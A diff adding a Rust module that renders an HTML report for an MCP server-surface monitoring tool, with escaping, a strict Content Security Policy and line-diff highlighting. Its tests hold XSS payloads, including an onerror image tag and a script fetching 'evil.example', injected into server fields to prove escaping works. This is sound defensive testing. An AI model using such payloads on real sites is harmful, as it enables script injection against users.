@@ -1,0 +1,661 @@
+//! The HTML report: one self-contained page (inline CSS, no scripts, no external assets) with
+//! the run summary, a table of servers, and every change with its old and new value side by
+//! side and the differing part highlighted.
+//!
+//! Every text that came from a server is hostile: it is HTML-escaped, invisible characters are
+//! shown as `\u{…}`, no server text becomes a link or an attribute, and a Content Security
+//! Policy forbids scripts and remote loads even if escaping ever failed.
+
+use std::fmt::Write as _;
+
+use serde_json::Value;
+
+use super::{ChangeRow, LedgerStatus, ServerRow, SummaryRow};
+use crate::diff::{Compatibility, Severity};
+use crate::risk::Risk;
+use crate::risk::unicode::escape_invisible;
+
+/// Above this many changes on a page, only high-severity changes start unfolded.
+const OPEN_ALL_LIMIT: usize = 100;
+/// Line-diff tables larger than this (old lines × new lines) fall back to marking the whole
+/// differing middle, so a huge schema cannot make rendering slow.
+const MAX_LCS_CELLS: usize = 1_000_000;
+
+/// Everything one page shows.
+#[derive(Debug, Clone)]
+pub struct Page<'a> {
+    /// The page heading.
+    pub title: String,
+    /// A line under the heading (ledger name, or the two sides of a diff).
+    pub subtitle: String,
+    /// The run's counts.
+    pub summary: &'a SummaryRow,
+    /// One entry per server row, in row order.
+    pub servers: Vec<ServerEntry<'a>>,
+    /// Every change row.
+    pub changes: &'a [ChangeRow],
+}
+
+/// One server of the servers table.
+#[derive(Debug, Clone, Copy)]
+pub struct ServerEntry<'a> {
+    /// The server's row.
+    pub row: &'a ServerRow,
+    /// The server's risk, when known.
+    pub risk: Option<Risk>,
+}
+
+impl<'a> Page<'a> {
+    /// The page of an Actor run.
+    pub fn of_run(
+        summary: &'a SummaryRow,
+        servers: &'a [ServerRow],
+        changes: &'a [ChangeRow],
+    ) -> Self {
+        Page {
+            title: "MCP surface ledger report".to_string(),
+            subtitle: format!("Ledger {}", summary.ledger_name),
+            summary,
+            servers: servers
+                .iter()
+                .map(|row| ServerEntry { row, risk: None })
+                .collect(),
+            changes,
+        }
+    }
+}
+
+/// Escapes text for HTML element content and quoted attributes, showing invisible characters.
+pub fn escape(text: &str) -> String {
+    let visible = escape_invisible(text);
+    let mut out = String::with_capacity(visible.len());
+    for c in visible.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&#39;"),
+            other => out.push(other),
+        }
+    }
+    out
+}
+
+/// One run of text on one side of a value comparison.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Segment {
+    /// The text.
+    pub text: String,
+    /// Whether this text differs from the other side.
+    pub changed: bool,
+}
+
+fn push_segment(out: &mut Vec<Segment>, text: &str, changed: bool) {
+    if text.is_empty() {
+        return;
+    }
+    match out.last_mut() {
+        Some(last) if last.changed == changed => last.text.push_str(text),
+        _ => out.push(Segment {
+            text: text.to_string(),
+            changed,
+        }),
+    }
+}
+
+/// Splits two texts into segments that mark what differs: by characters for one-line texts,
+/// by lines (longest common subsequence) otherwise.
+pub fn highlight(old: &str, new: &str) -> (Vec<Segment>, Vec<Segment>) {
+    if !old.contains('\n') && !new.contains('\n') {
+        return highlight_chars(old, new);
+    }
+    highlight_lines(old, new)
+}
+
+fn highlight_chars(old: &str, new: &str) -> (Vec<Segment>, Vec<Segment>) {
+    let (a, b): (Vec<char>, Vec<char>) = (old.chars().collect(), new.chars().collect());
+    let prefix = a.iter().zip(&b).take_while(|(x, y)| x == y).count();
+    let suffix = a[prefix..]
+        .iter()
+        .rev()
+        .zip(b[prefix..].iter().rev())
+        .take_while(|(x, y)| x == y)
+        .count();
+    let side = |chars: &[char]| {
+        let text = |range: &[char]| range.iter().collect::<String>();
+        let mut out = Vec::new();
+        push_segment(&mut out, &text(&chars[..prefix]), false);
+        push_segment(&mut out, &text(&chars[prefix..chars.len() - suffix]), true);
+        push_segment(&mut out, &text(&chars[chars.len() - suffix..]), false);
+        out
+    };
+    (side(&a), side(&b))
+}
+
+fn highlight_lines(old: &str, new: &str) -> (Vec<Segment>, Vec<Segment>) {
+    let a: Vec<&str> = old.split_inclusive('\n').collect();
+    let b: Vec<&str> = new.split_inclusive('\n').collect();
+    let prefix = a.iter().zip(&b).take_while(|(x, y)| x == y).count();
+    let suffix = a[prefix..]
+        .iter()
+        .rev()
+        .zip(b[prefix..].iter().rev())
+        .take_while(|(x, y)| x == y)
+        .count();
+    let (mid_a, mid_b) = (&a[prefix..a.len() - suffix], &b[prefix..b.len() - suffix]);
+    let (keep_a, keep_b) = common_lines(mid_a, mid_b);
+    let side = |lines: &[&str], mid_keep: &[bool]| {
+        let mut out = Vec::new();
+        for (i, line) in lines.iter().enumerate() {
+            let in_mid = i >= prefix && i < lines.len() - suffix;
+            let changed = in_mid && !mid_keep[i - prefix];
+            push_segment(&mut out, line, changed);
+        }
+        out
+    };
+    (side(&a, &keep_a), side(&b, &keep_b))
+}
+
+/// Which lines of `a` and `b` belong to a longest common subsequence.
+fn common_lines(a: &[&str], b: &[&str]) -> (Vec<bool>, Vec<bool>) {
+    let (mut keep_a, mut keep_b) = (vec![false; a.len()], vec![false; b.len()]);
+    if a.is_empty() || b.is_empty() || a.len() * b.len() > MAX_LCS_CELLS {
+        return (keep_a, keep_b);
+    }
+    let width = b.len() + 1;
+    let mut table = vec![0u32; (a.len() + 1) * width];
+    for i in (0..a.len()).rev() {
+        for j in (0..b.len()).rev() {
+            table[i * width + j] = if a[i] == b[j] {
+                table[(i + 1) * width + j + 1] + 1
+            } else {
+                table[(i + 1) * width + j].max(table[i * width + j + 1])
+            };
+        }
+    }
+    let (mut i, mut j) = (0, 0);
+    while i < a.len() && j < b.len() {
+        if a[i] == b[j] {
+            keep_a[i] = true;
+            keep_b[j] = true;
+            i += 1;
+            j += 1;
+        } else if table[(i + 1) * width + j] >= table[i * width + j + 1] {
+            i += 1;
+        } else {
+            j += 1;
+        }
+    }
+    (keep_a, keep_b)
+}
+
+/// A value as the reader sees it: strings as text, everything else as indented JSON.
+fn value_text(value: &Value) -> String {
+    match value {
+        Value::String(text) => text.clone(),
+        other => serde_json::to_string_pretty(other).unwrap_or_else(|_| other.to_string()),
+    }
+}
+
+fn severity_name(severity: Severity) -> &'static str {
+    severity.as_str()
+}
+
+fn compatibility_name(compatibility: Compatibility) -> &'static str {
+    match compatibility {
+        Compatibility::Breaking => "breaking",
+        Compatibility::Additive => "additive",
+        Compatibility::Loosened => "loosened",
+        Compatibility::Notation => "notation",
+        Compatibility::Unknown => "unknown",
+    }
+}
+
+fn risk_name(risk: Risk) -> &'static str {
+    match risk {
+        Risk::Low => "low",
+        Risk::Medium => "medium",
+        Risk::High => "high",
+    }
+}
+
+fn ledger_status_name(status: LedgerStatus) -> &'static str {
+    match status {
+        LedgerStatus::Created => "created",
+        LedgerStatus::Compared => "compared",
+        LedgerStatus::Unavailable => "unavailable",
+        LedgerStatus::Deferred => "deferred",
+    }
+}
+
+const STYLE: &str = r#"
+:root { --high: #b3261e; --high-bg: #fde7e5; --medium: #8a5300; --medium-bg: #fff1d6;
+  --low: #35618f; --low-bg: #e6eef8; --ok: #1e6b34; --line: #d8dce1; --muted: #5b6470; }
+* { box-sizing: border-box; }
+body { font: 14px/1.45 system-ui, -apple-system, "Segoe UI", sans-serif; margin: 0; color: #1b1f24; background: #f6f7f9; }
+header, main { max-width: 1400px; margin: 0 auto; padding: 16px 24px; }
+header h1 { margin: 0 0 4px; font-size: 22px; }
+.muted { color: var(--muted); }
+.stats { display: flex; flex-wrap: wrap; gap: 10px; margin: 12px 0; padding: 0; list-style: none; }
+.stats li { background: #fff; border: 1px solid var(--line); border-radius: 6px; padding: 8px 12px; min-width: 120px; }
+.stats .num { display: block; font-size: 22px; font-weight: 600; }
+.sev { display: inline-block; border-radius: 4px; padding: 0 6px; font-size: 12px; font-weight: 600; text-transform: uppercase; }
+.sev-high { color: var(--high); background: var(--high-bg); }
+.sev-medium { color: var(--medium); background: var(--medium-bg); }
+.sev-low { color: var(--low); background: var(--low-bg); }
+.compat { display: inline-block; border: 1px solid var(--line); border-radius: 4px; padding: 0 5px; font-size: 12px; }
+.compat-breaking { border-color: var(--high); color: var(--high); }
+table { border-collapse: collapse; width: 100%; background: #fff; border: 1px solid var(--line); }
+th, td { text-align: left; padding: 5px 8px; border-bottom: 1px solid var(--line); vertical-align: top; }
+thead th { position: sticky; top: 0; background: #eef0f3; z-index: 1; }
+tbody tr:nth-child(even) { background: #fafbfc; }
+td.url { max-width: 420px; overflow-wrap: anywhere; font-family: ui-monospace, monospace; font-size: 12px; }
+td.num { text-align: right; font-variant-numeric: tabular-nums; }
+.status-ok { color: var(--ok); font-weight: 600; }
+.status-bad { color: var(--high); font-weight: 600; }
+section.server-changes { margin: 18px 0; }
+section.server-changes h3 { font-size: 15px; overflow-wrap: anywhere; font-family: ui-monospace, monospace; }
+details.change { background: #fff; border: 1px solid var(--line); border-left: 4px solid var(--line); border-radius: 4px; margin: 6px 0; }
+details.change.sev-high { border-left-color: var(--high); }
+details.change.sev-medium { border-left-color: var(--medium); }
+details.change.sev-low { border-left-color: var(--low); }
+details.change > summary { cursor: pointer; padding: 6px 10px; }
+details.change code { font-size: 12px; }
+.change-body { padding: 0 10px 10px; }
+.change-body ul { margin: 4px 0 8px; padding-left: 20px; }
+.sides { display: grid; grid-template-columns: 1fr 1fr; gap: 8px; }
+.sides h4 { margin: 0 0 2px; font-size: 12px; color: var(--muted); text-transform: uppercase; }
+.sides pre { margin: 0; padding: 8px; background: #f4f5f7; border: 1px solid var(--line); border-radius: 4px;
+  white-space: pre-wrap; overflow-wrap: anywhere; max-height: 480px; overflow: auto; font-size: 12px; }
+del { background: #ffd7d5; color: #6e0d08; text-decoration: none; }
+ins { background: #cdeed6; color: #0f4a22; text-decoration: none; }
+.absent { color: var(--muted); font-style: italic; }
+"#;
+
+/// Renders the page.
+pub fn render(page: &Page<'_>) -> String {
+    let mut html = String::with_capacity(16 * 1024 + page.changes.len() * 2048);
+    html.push_str("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n");
+    html.push_str(
+        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">\n",
+    );
+    html.push_str("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n");
+    let _ = writeln!(html, "<title>{}</title>", escape(&page.title));
+    let _ = writeln!(html, "<style>{STYLE}</style>\n</head>\n<body>");
+    let _ = writeln!(
+        html,
+        "<header>\n<h1>{}</h1>\n<div class=\"muted\">{} · observed {}</div>",
+        escape(&page.title),
+        escape(&page.subtitle),
+        escape(&page.summary.observed_at.to_rfc3339())
+    );
+    render_summary(&mut html, page.summary);
+    html.push_str("</header>\n<main>\n");
+    render_servers(&mut html, page);
+    render_changes(&mut html, page);
+    html.push_str("</main>\n</body>\n</html>\n");
+    html
+}
+
+fn render_summary(html: &mut String, summary: &SummaryRow) {
+    let stats = [
+        ("servers_requested", "servers", summary.servers_requested),
+        ("servers_checked", "checked", summary.servers_checked),
+        ("servers_changed", "changed", summary.servers_changed),
+        (
+            "servers_unreachable",
+            "unreachable",
+            summary.servers_unreachable,
+        ),
+        (
+            "servers_requiring_auth",
+            "require auth",
+            summary.servers_requiring_auth,
+        ),
+        ("servers_blocked", "blocked", summary.servers_blocked),
+        ("changes_total", "changes", summary.changes_total),
+    ];
+    html.push_str("<ul class=\"stats\" id=\"summary\">\n");
+    for (key, label, value) in stats {
+        let _ = writeln!(
+            html,
+            "<li data-stat=\"{key}\"><span class=\"num\">{value}</span>{label}</li>"
+        );
+    }
+    for severity in ["high", "medium", "low"] {
+        let count = summary
+            .changes_by_severity
+            .get(severity)
+            .copied()
+            .unwrap_or(0);
+        let _ = writeln!(
+            html,
+            "<li data-stat=\"severity_{severity}\"><span class=\"num\">{count}</span><span class=\"sev sev-{severity}\">{severity}</span></li>"
+        );
+    }
+    html.push_str("</ul>\n");
+}
+
+fn render_servers(html: &mut String, page: &Page<'_>) {
+    let _ = writeln!(
+        html,
+        "<h2>Servers ({})</h2>\n<table id=\"servers\">\n<thead><tr><th>#</th><th>Server</th><th>Status</th><th>Protocol</th><th>Transport</th><th>Tools</th><th>Risk</th><th>Changes</th></tr></thead>\n<tbody>",
+        page.servers.len()
+    );
+    for (index, entry) in page.servers.iter().enumerate() {
+        let row = entry.row;
+        let code = row.reason_code.map(|c| c.as_str()).unwrap_or("-");
+        let status_class = if row.ok { "status-ok" } else { "status-bad" };
+        let ledger = row.ledger_status.map(ledger_status_name).unwrap_or("-");
+        let mut status = format!(
+            "<span class=\"{status_class}\">{}</span> · {ledger}",
+            escape(code)
+        );
+        if let Some(error) = &row.error {
+            let _ = write!(status, "<div class=\"muted\">{}</div>", escape(error));
+        }
+        let protocol = match (&row.protocol_version, &row.protocol_era) {
+            (Some(version), Some(era)) => format!("{} ({})", escape(version), escape(era)),
+            (Some(version), None) => escape(version),
+            _ => "-".to_string(),
+        };
+        let tools = row
+            .tools_total
+            .map(|n| n.to_string())
+            .unwrap_or_else(|| "-".to_string());
+        let risk = entry
+            .risk
+            .map(|r| format!("<span class=\"sev sev-{0}\">{0}</span>", risk_name(r)))
+            .unwrap_or_else(|| "-".to_string());
+        let changes = if row.change_count > 0 {
+            format!("<a href=\"#changes-{index}\">{}</a>", row.change_count)
+        } else {
+            "0".to_string()
+        };
+        let _ = writeln!(
+            html,
+            "<tr id=\"server-{index}\"><td class=\"num\">{}</td><td class=\"url\">{}</td><td>{status}</td><td>{protocol}</td><td>{}</td><td class=\"num\">{tools}</td><td>{risk}</td><td class=\"num\">{changes}</td></tr>",
+            index + 1,
+            escape(&row.server_url),
+            escape(row.transport.as_deref().unwrap_or("-")),
+        );
+    }
+    html.push_str("</tbody>\n</table>\n");
+}
+
+fn render_changes(html: &mut String, page: &Page<'_>) {
+    let _ = writeln!(html, "<h2>Changes ({})</h2>", page.changes.len());
+    if page.changes.is_empty() {
+        html.push_str("<p class=\"muted\" id=\"no-changes\">No changes recorded.</p>\n");
+        return;
+    }
+    let open_all = page.changes.len() <= OPEN_ALL_LIMIT;
+    let mut sections: Vec<(String, Vec<&ChangeRow>)> = Vec::new();
+    for change in page.changes {
+        match sections.last_mut() {
+            Some((url, rows)) if *url == change.server_url => rows.push(change),
+            _ => sections.push((change.server_url.clone(), vec![change])),
+        }
+    }
+    for (url, rows) in sections {
+        let anchor = page
+            .servers
+            .iter()
+            .position(|s| s.row.server_url == url)
+            .map(|i| format!(" id=\"changes-{i}\""))
+            .unwrap_or_default();
+        let _ = writeln!(
+            html,
+            "<section class=\"server-changes\"{anchor}>\n<h3>{} <span class=\"muted\">({} changes)</span></h3>",
+            escape(&url),
+            rows.len()
+        );
+        for change in rows {
+            render_change(html, change, open_all || change.severity == Severity::High);
+        }
+        html.push_str("</section>\n");
+    }
+}
+
+fn render_change(html: &mut String, change: &ChangeRow, open: bool) {
+    let severity = severity_name(change.severity);
+    let _ = write!(
+        html,
+        "<details class=\"change sev-{severity}\" data-class=\"{}\"{}>\n<summary><span class=\"sev sev-{severity}\">{severity}</span> <strong>{}</strong>",
+        change.change_class.as_str(),
+        if open { " open" } else { "" },
+        change.change_class.as_str()
+    );
+    if let Some(tool) = &change.tool_name {
+        let _ = write!(html, " · tool <code>{}</code>", escape(tool));
+    }
+    let _ = write!(html, " · field <code>{}</code>", escape(&change.field));
+    if let Some(compatibility) = change.compatibility {
+        let name = compatibility_name(compatibility);
+        let _ = write!(html, " <span class=\"compat compat-{name}\">{name}</span>");
+    }
+    html.push_str("</summary>\n<div class=\"change-body\">\n");
+    if !change.details.is_empty() {
+        html.push_str("<ul>");
+        for detail in &change.details {
+            let _ = write!(html, "<li>{}</li>", escape(detail));
+        }
+        html.push_str("</ul>\n");
+    }
+    render_sides(html, change.old_value.as_ref(), change.new_value.as_ref());
+    html.push_str("</div>\n</details>\n");
+}
+
+fn render_sides(html: &mut String, old: Option<&Value>, new: Option<&Value>) {
+    let (old_text, new_text) = (old.map(value_text), new.map(value_text));
+    let (old_segments, new_segments) = match (&old_text, &new_text) {
+        (Some(o), Some(n)) => {
+            let (a, b) = highlight(o, n);
+            (Some(a), Some(b))
+        }
+        (Some(o), None) => (Some(whole(o)), None),
+        (None, Some(n)) => (None, Some(whole(n))),
+        (None, None) => (None, None),
+    };
+    html.push_str("<div class=\"sides\">\n");
+    render_side(html, "before", "old", old_segments.as_deref(), "del");
+    render_side(html, "after", "new", new_segments.as_deref(), "ins");
+    html.push_str("</div>\n");
+}
+
+fn whole(text: &str) -> Vec<Segment> {
+    vec![Segment {
+        text: text.to_string(),
+        changed: true,
+    }]
+}
+
+fn render_side(
+    html: &mut String,
+    label: &str,
+    class: &str,
+    segments: Option<&[Segment]>,
+    mark: &str,
+) {
+    let _ = write!(html, "<div class=\"side side-{class}\"><h4>{label}</h4>");
+    match segments {
+        None => html.push_str("<pre class=\"absent\">(absent)</pre>"),
+        Some(segments) => {
+            html.push_str("<pre>");
+            for segment in segments {
+                if segment.changed {
+                    let _ = write!(html, "<{mark}>{}</{mark}>", escape(&segment.text));
+                } else {
+                    html.push_str(&escape(&segment.text));
+                }
+            }
+            html.push_str("</pre>");
+        }
+    }
+    html.push_str("</div>\n");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::diff::{Change, ChangeClass};
+    use crate::reason::ReasonCode;
+    use chrono::Utc;
+    use serde_json::json;
+
+    fn seg(text: &str, changed: bool) -> Segment {
+        Segment {
+            text: text.to_string(),
+            changed,
+        }
+    }
+
+    #[test]
+    fn one_line_texts_highlight_the_differing_middle() {
+        let table = [
+            (
+                "abcXdef",
+                "abcYYdef",
+                vec![seg("abc", false), seg("X", true), seg("def", false)],
+                vec![seg("abc", false), seg("YY", true), seg("def", false)],
+            ),
+            (
+                "same",
+                "same",
+                vec![seg("same", false)],
+                vec![seg("same", false)],
+            ),
+            ("", "new", vec![], vec![seg("new", true)]),
+            (
+                "aa",
+                "aaa",
+                vec![seg("aa", false)],
+                vec![seg("aa", false), seg("a", true)],
+            ),
+            (
+                "héllo",
+                "hallo",
+                vec![seg("h", false), seg("é", true), seg("llo", false)],
+                vec![seg("h", false), seg("a", true), seg("llo", false)],
+            ),
+        ];
+        for (old, new, expected_old, expected_new) in table {
+            let (a, b) = highlight(old, new);
+            assert_eq!(a, expected_old, "{old:?} -> {new:?}");
+            assert_eq!(b, expected_new, "{old:?} -> {new:?}");
+        }
+    }
+
+    #[test]
+    fn multi_line_texts_highlight_whole_lines() {
+        let old = "{\n  \"a\": 1,\n  \"b\": 2,\n  \"c\": 3\n}";
+        let new = "{\n  \"a\": 1,\n  \"b\": 5,\n  \"c\": 3,\n  \"d\": 4\n}";
+        let (a, b) = highlight(old, new);
+        assert_eq!(
+            a,
+            vec![
+                seg("{\n  \"a\": 1,\n", false),
+                seg("  \"b\": 2,\n  \"c\": 3\n", true),
+                seg("}", false)
+            ]
+        );
+        assert_eq!(
+            b,
+            vec![
+                seg("{\n  \"a\": 1,\n", false),
+                seg("  \"b\": 5,\n  \"c\": 3,\n  \"d\": 4\n", true),
+                seg("}", false)
+            ]
+        );
+        let (a, b) = highlight("x\ny\nz\n", "x\nq\ny\nz\n");
+        assert_eq!(a, vec![seg("x\ny\nz\n", false)]);
+        assert_eq!(
+            b,
+            vec![seg("x\n", false), seg("q\n", true), seg("y\nz\n", false)]
+        );
+    }
+
+    #[test]
+    fn escape_neutralizes_markup_and_shows_invisible_characters() {
+        assert_eq!(
+            escape("<script>alert('x')</script>&\"\u{200B}"),
+            "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;&amp;&quot;\\u{200B}"
+        );
+    }
+
+    fn hostile_page_html() -> String {
+        let evil = "<img src=x onerror=alert(1)><script>fetch('https://evil.example')</script>";
+        let server = ServerRow {
+            record_type: "server",
+            server_url: format!("https://srv.example/mcp?{evil}"),
+            ok: true,
+            reason_code: Some(ReasonCode::Ok),
+            transport: Some(evil.to_string()),
+            protocol_version: Some("2025-11-25".into()),
+            protocol_era: Some("classic".into()),
+            tools_total: Some(3),
+            change_count: 1,
+            ledger_status: Some(LedgerStatus::Compared),
+            error: Some(evil.to_string()),
+            ..ServerRow::default()
+        };
+        let mut change = Change::new(
+            ChangeClass::ToolDescriptionChanged,
+            Some(evil),
+            "description",
+            Some(json!("Reads a file.")),
+            Some(json!(format!("Reads a file. {evil}"))),
+            Severity::Low,
+        );
+        change.severity = Severity::High;
+        change.compatibility = Some(Compatibility::Breaking);
+        change.details = vec![evil.to_string()];
+        let changes = vec![ChangeRow::of(&server.server_url, &change, Utc::now())];
+        let servers = vec![server];
+        let summary = SummaryRow::tally(&servers, &changes);
+        let page = Page {
+            servers: vec![ServerEntry {
+                row: &servers[0],
+                risk: Some(Risk::High),
+            }],
+            ..Page::of_run(&summary, &servers, &changes)
+        };
+        render(&page)
+    }
+
+    #[test]
+    fn server_text_never_becomes_markup() {
+        let html = hostile_page_html();
+        assert!(!html.contains("<script"), "raw script tag in page");
+        assert!(!html.contains("<img"), "raw img tag in page");
+        assert!(html.contains("&lt;script&gt;fetch("));
+        assert!(
+            !html.contains("https://evil")
+                || html.contains("fetch(&#39;https://evil.example&#39;)")
+        );
+        assert!(html.contains("default-src &#39;none&#39;") || html.contains("default-src 'none'"));
+    }
+
+    #[test]
+    fn the_page_carries_summary_servers_and_changes() {
+        let html = hostile_page_html();
+        assert!(html.contains("<li data-stat=\"changes_total\"><span class=\"num\">1</span>"));
+        assert!(html.contains("<li data-stat=\"severity_high\"><span class=\"num\">1</span>"));
+        assert!(html.contains("<tr id=\"server-0\">"));
+        assert!(html.contains("<span class=\"sev sev-high\">high</span>"));
+        assert!(html.contains("data-class=\"tool_description_changed\" open>"));
+        assert!(html.contains("<span class=\"compat compat-breaking\">breaking</span>"));
+        assert!(html.contains("<pre>Reads a file.<ins> &lt;img"));
+        assert!(html.contains("<a href=\"#changes-0\">1</a>"));
+        assert!(html.contains("<section class=\"server-changes\" id=\"changes-0\">"));
+    }
+
+    #[test]
+    fn an_empty_run_says_so() {
+        let summary = SummaryRow::tally(&[], &[]);
+        let html = render(&Page::of_run(&summary, &[], &[]));
+        assert!(html.contains("No changes recorded."));
+        assert!(html.contains("<h2>Servers (0)</h2>"));
+    }
+}
